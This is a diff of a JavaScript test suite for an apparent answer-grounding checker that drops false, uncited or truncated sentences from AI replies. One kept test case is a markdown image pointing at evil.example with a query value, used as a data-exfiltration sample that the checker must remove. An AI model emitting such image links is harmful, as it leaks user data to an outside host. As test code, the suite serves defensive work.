@@ -91,11 +91,8 @@ describe('a false sentence', () => {
     ],
   ])('with %s is left out, and the section with the truth is shown', (_, lie, reason) => {
     const { text, sentences, ...answer } = ground(`${lie} [1][2]`);
-    expect(answer).toMatchObject({
-      reason: 'closest',
-      dropped: 1,
-      droppedSentences: [{ text: lie, reason }],
-    });
+    const droppedSentences = [{ text: lie, reason }];
+    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, droppedSentences });
     expect(sentences).toEqual([]);
     expect(text.split('\n\nSources:')[0]).toContain(window);
   });
@@ -103,7 +100,6 @@ describe('a false sentence', () => {
   it.each([
     ['an invented statement', 'The moon is made of cheese. [1]'],
     ['an unknown citation', 'Refunds are paid within 31 days of purchase. [9]'],
-    ['no citation', 'Refunds are paid within 31 days of purchase.'],
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
     ['a figure cut short', 'Refunds are paid within 3'],
   ])('with %s is dropped, and sections of the passages replace it', (_, reply) => {
@@ -127,11 +123,8 @@ describe('a false sentence', () => {
   });
 
   it('is not replaced by a unit that shares only a figure', () => {
-    expect(ground('The bicycle cellar is open 30 days. [1]')).toMatchObject({
-      reason: 'closest',
-      dropped: 1,
-      repaired: 0,
-    });
+    const answer = ground('The bicycle cellar is open 30 days. [1]');
+    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, repaired: 0 });
   });
 
   it('does not show HTML and images of a passage', () => {
